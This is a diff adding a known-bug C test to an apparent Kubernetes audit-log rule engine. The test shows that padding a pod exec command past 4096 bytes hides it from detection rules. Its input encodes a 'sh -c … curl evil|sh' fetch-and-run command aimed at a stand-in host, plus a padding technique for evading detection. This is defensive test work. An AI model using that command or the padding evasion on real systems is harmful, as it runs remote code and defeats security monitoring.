@@ -615,3 +615,23 @@ K8A_TEST(expr_time_equality_is_temporal)
 	CHECK_EQ_INT(mc("time=2026-03-01T11:00:00.000Z"), 1);
 }
 #endif
+
+#ifdef K8A_TEST_KNOWN_BUGS
+K8A_TEST(expr_command_longer_than_4k)
+{
+	/* eval_pred() (expr.c) decodes the command into a 4096-byte buffer
+	 * and matches the truncated text: padding the command hides its end
+	 * from command*=, command~ and command= (an evasion of detection
+	 * rules).  requestURIs of tens of KiB are accepted by the API server. */
+	char *doc = t_alloc(20000), *p;
+	size_t i;
+
+	p = doc + sprintf(doc, "{\"auditID\":\"x\",\"verb\":\"create\",\"requestURI\":"
+		"\"/api/v1/namespaces/n/pods/p/exec?command=sh&command=-c&command=");
+	for (i = 0; i < 5000; i++)
+		*p++ = '+';
+	sprintf(p, "curl+evil%%7Csh&container=c\"}");
+	CHECK_EQ_INT(t_match("command*='curl evil|sh'", doc), 1);
+	CHECK_EQ_INT(t_match("command~'curl'", doc), 1);
+}
+#endif
